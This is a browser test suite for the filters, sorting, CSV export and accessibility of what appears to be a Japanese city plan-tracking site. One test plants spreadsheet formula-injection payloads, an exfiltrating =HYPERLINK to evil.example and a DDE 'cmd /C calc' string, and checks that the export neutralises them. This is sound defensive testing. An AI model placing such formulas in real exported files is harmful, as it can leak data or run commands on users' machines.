// The plan page's filters, with and without JavaScript, as a reader uses them.
import { test } from "node:test";
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { useSite, eventually } from "./support.mjs";

const PLAN = "mine/comprehensive";
const site = useSite();

/** Item numbers of the rows the reader can see. */
async function shown(page) {
  return page.$$eval("#items-table tbody tr", (rows) => rows.filter((r) => !r.hidden).map((r) => r.dataset.number));
}

/** How many rows the reader can see. */
async function count(page) {
  return (await shown(page)).length;
}

/** What the live region announces. */
async function announced(page) {
  return page.textContent("#shown-count");
}

/** The filter and sort state the page keeps in its URL. */
function query(page) {
  return Object.fromEntries(new URL(page.url()).searchParams);
}

/** Waits until the script has shown the controls and announced the rows shown. */
async function ready(page) {
  await page.waitForSelector("#filters:not([hidden])");
  await page.waitForFunction(() => document.getElementById("shown-count").textContent !== "");
}

async function openPlan(query = "", plan = PLAN) {
  const page = await site.chrome.newPage();
  await page.goto(`${site.server.base}/${plan}/${query}`);
  await ready(page);
  return page;
}

test("the status filter narrows the table to the items with that status", async () => {
  const page = await openPlan();
  assert.equal(await count(page), 130);
  await page.selectOption("#f-status", "worsened");
  const statuses = () => page.$$eval("#items-table tbody tr:not([hidden])", (r) => r.map((x) => x.dataset.status));
  await eventually(statuses, Array(40).fill("worsened"), "the 40 items graded 未達成, and only they");
  await eventually(() => announced(page), "130件中40件を表示", "the live region's count");
  await page.close();
});

test("filters combine, live in the URL, and survive a reload", async () => {
  const page = await openPlan();
  await page.selectOption("#f-status", "worsened");
  await page.selectOption("#f-category", "3");
  // 基本目標3 has 12 未達成 of 25: the 48.0 % the city's own text states.
  await eventually(() => count(page), 12, "未達成 in 基本目標3");
  await eventually(() => query(page), { status: "worsened", category: "3" }, "the filters in the URL");
  const before = await shown(page);
  await page.reload();
  await ready(page);
  await eventually(() => shown(page), before, "the same rows after a reload");
  assert.equal(await page.inputValue("#f-status"), "worsened");
  assert.equal(await page.inputValue("#f-category"), "3");
  // Text filtering (full-width and half-width alike) narrows further.
  await page.fill("#f-q", "ＩＣＴ");
  await eventually(() => shown(page), [], "no 未達成 item of 基本目標3 mentions ICT");
  await page.fill("#f-q", "");
  // The form's values are reset after its reset event, so the script
  // filters a task later: wait for what the reader sees.
  await page.click("button[type=reset]");
  await eventually(() => count(page), 130, "every row after clearing the filters");
  await eventually(() => announced(page), "130件中130件を表示", "the live region's count after clearing");
  await eventually(() => query(page), {}, "no filter left in the URL");
  await page.close();
});

test("sorting by a column reorders the rows and says so", async () => {
  const page = await openPlan("?status=improved");
  // Natural order, as people number things: 4-2-2 before 4-2-14, where
  // plain string order would swap them.
  const asc = (await shown(page)).sort(new Intl.Collator("en", { numeric: true }).compare);
  assert.ok(asc.includes("4-2-2") && asc.includes("4-2-14"));
  assert.ok(asc.indexOf("4-2-2") < asc.indexOf("4-2-14"), "natural order");
  const sorted = () => page.getAttribute('th[data-sort="number"]', "aria-sort");
  await page.click('th[data-sort="number"] button');
  await eventually(sorted, "ascending", "the column says how it is sorted");
  await eventually(() => shown(page), asc, "rows in ascending natural order");
  await page.click('th[data-sort="number"] button');
  await eventually(sorted, "descending", "the column says how it is sorted");
  await eventually(() => shown(page), [...asc].reverse(), "rows in descending order");
  await eventually(() => query(page), { status: "improved", sort: "number", dir: "descending" }, "the sort in the URL");
  await page.close();
});

test("the CSV download holds exactly the rows shown", async () => {
  const page = await openPlan("?status=unchanged");
  const rows = await shown(page);
  const [download] = await Promise.all([page.waitForEvent("download"), page.click("#download-shown")]);
  const text = await readFile(await download.path(), "utf8");
  assert.ok(text.startsWith("\ufeff"), "a byte-order mark for Excel");
  const lines = text.slice(1).trim().split("\r\n");
  assert.equal(lines.length, rows.length + 1, "a header and one line per shown row");
  assert.deepEqual(lines.slice(1).map((l) => l.split(",")[0]), rows);
  await page.close();
});

test("the CSV download keeps a figure's note beside it", async () => {
  // 山陽小野田市's 経常収支比率 (item 10) reports FY2020's 99.2 % as 見込 (an estimate).
  const page = await openPlan("?q=経常収支比率", "sanyo-onoda/reform");
  await eventually(() => shown(page), ["10"], "the text filter finds item 10");
  const [download] = await Promise.all([page.waitForEvent("download"), page.click("#download-shown")]);
  const lines = (await readFile(await download.path(), "utf8")).slice(1).trim().split("\r\n");
  assert.equal(lines.length, 2, "a header and the row shown");
  assert.match(lines[1], /^10,.*,経常収支比率 99\.2 \(見込\) \/ 98\.5 % \(実績 令和2年度 \/ 目標 令和2年度\)$/);
  await page.close();
});

test("the CSV download neutralises cells a spreadsheet would run", async () => {
  // The demo has no hostile text; the reader's page is given some, as a
  // city's content could carry, before the download.
  const page = await openPlan("?q=経常収支比率", "sanyo-onoda/reform");
  await eventually(() => shown(page), ["10"], "the text filter finds item 10");
  await page.$eval("#items-table tbody tr:not([hidden])", (row) => {
    row.cells[1].textContent = '=HYPERLINK("http://evil.example/?"&A1,"x")';
    row.cells[3].textContent = "@SUM(1+1)*cmd|' /C calc'!A0";
    row.cells[0].textContent = "-10";
  });
  const [download] = await Promise.all([page.waitForEvent("download"), page.click("#download-shown")]);
  const lines = (await readFile(await download.path(), "utf8")).slice(1).trim().split("\r\n");
  const cells = lines[1].match(/("(?:[^"]|"")*"|[^,]*)(,|$)/g).map((c) => c.replace(/,$/, ""));
  assert.equal(cells[0], "-10", "a number stays a number");
  assert.equal(cells[1], '"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"');
  assert.equal(cells[3], "'@SUM(1+1)*cmd|' /C calc'!A0");
  await page.close();
});

test("without JavaScript the status pages list the same rows as the scripted filter", async () => {
  const noJs = await site.chrome.newContext({ javaScriptEnabled: false });
  const plain = await noJs.newPage();
  await plain.goto(`${site.server.base}/${PLAN}/`);
  assert.ok(await plain.isHidden("#filters"), "controls that need JavaScript stay hidden without it");
  const slugs = await plain.$$eval(".summary tbody a", (links) => links.map((a) => a.getAttribute("href")));
  assert.equal(slugs.length, 5, "four levels and 'no status'");
  const page = await openPlan();
  for (const href of slugs) {
    await plain.goto(`${site.server.base}/${PLAN}/${href}`);
    const listed = await plain.$$eval("#items-table tbody tr", (r) => r.map((x) => x.dataset.number));
    const status = href.split("/")[1];
    await page.selectOption("#f-status", status);
    await eventually(() => shown(page), listed, `status/${status}`);
  }
  await noJs.close();
  await page.close();
});

test("every control is reachable with the keyboard alone, with visible focus", async () => {
  const page = await openPlan();
  // The plan names no departments: the column and its filter are left out.
  const wanted = ["f-status", "f-category", "f-q"];
  const reached = new Set();
  let sortButtons = 0;
  let focusOutline = true;
  // The summary's links and the categories' disclosures come first.
  for (let i = 0; i < 90; i++) {
    await page.keyboard.press("Tab");
    const info = await page.evaluate(() => {
      const el = document.activeElement;
      const style = getComputedStyle(el);
      return { id: el.id, sort: el.classList.contains("sort"), outline: style.outlineStyle !== "none" && style.outlineWidth !== "0px" };
    });
    if (info.id) reached.add(info.id);
    if (info.sort) sortButtons++;
    if (wanted.includes(info.id) && !info.outline) focusOutline = false;
  }
  for (const id of wanted) assert.ok(reached.has(id), `Tab reaches #${id}`);
  assert.ok(reached.has("download-shown"), "Tab reaches the CSV button");
  // Number, title, category and status.
  assert.ok(sortButtons >= 4, "Tab reaches the sort buttons");
  assert.ok(focusOutline, "focused controls show an outline");
  // The skip link is the first stop and leads to the main content.
  await page.goto(`${site.server.base}/${PLAN}/`);
  await page.keyboard.press("Tab");
  assert.equal(await page.evaluate(() => document.activeElement.getAttribute("href")), "#main");
  await page.close();
});
